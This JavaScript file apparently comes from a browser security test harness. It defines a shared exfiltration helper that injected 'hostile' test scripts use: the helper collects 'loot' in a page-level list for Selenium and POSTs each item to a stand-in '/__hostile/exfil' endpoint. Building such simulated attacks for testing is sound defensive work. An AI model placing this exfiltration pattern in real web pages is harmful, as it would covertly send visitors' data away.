// The exfiltration channel every hostile script uses: it keeps the page's original fetch, and an
// in-page loot list tests can read with Selenium. The stand-in prepends this file to each hostile
// script it injects (server._load_inject), so each script still works alone.
(function () {
  if (window.__hostile) return;
  const origFetch = window.fetch.bind(window);
  const loot = [];
  window.__hostile = {
    loot,
    origFetch,
    send(kind, data) {
      const item = { kind, page: location.href, at: Date.now(), data };
      loot.push(item);
      try {
        origFetch("/__hostile/exfil", { method: "POST", keepalive: true, credentials: "same-origin",
          headers: { "Content-Type": "text/plain" }, body: JSON.stringify(item) }).catch(() => {});
      } catch (e) { /* keep going */ }
    },
  };
})();

